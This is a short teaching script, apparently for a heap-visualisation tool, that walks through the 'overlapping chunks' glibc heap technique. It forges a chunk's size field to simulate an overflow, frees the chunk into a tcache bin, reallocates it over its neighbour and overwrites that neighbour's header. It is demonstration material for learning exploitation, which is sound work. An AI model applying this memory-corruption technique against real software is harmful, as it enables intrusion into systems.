# overlapping-chunks.hs - attack: grow a chunk's size field to swallow its neighbour.
title "Attack: overlapping chunks"
a = malloc(0x18)
b = malloc(0x88)
c = malloc(0x88)
guard = malloc(0x18)
say "A one-word overflow from a sets b's size to 0x120: b now claims c too."
*(b - 8) = 0x121
free(b)
pause "free trusts the size: a 0x120 chunk goes to tcache bin 0x120 (the tcache checks nothing else)"
x = malloc(0x118)
pause "x is b's chunk and covers c: writing x[0x90..] writes c's header and data. The technique worked"
memset(x + 0x80, 0x41, 0x20)
hexdump c - 16 32
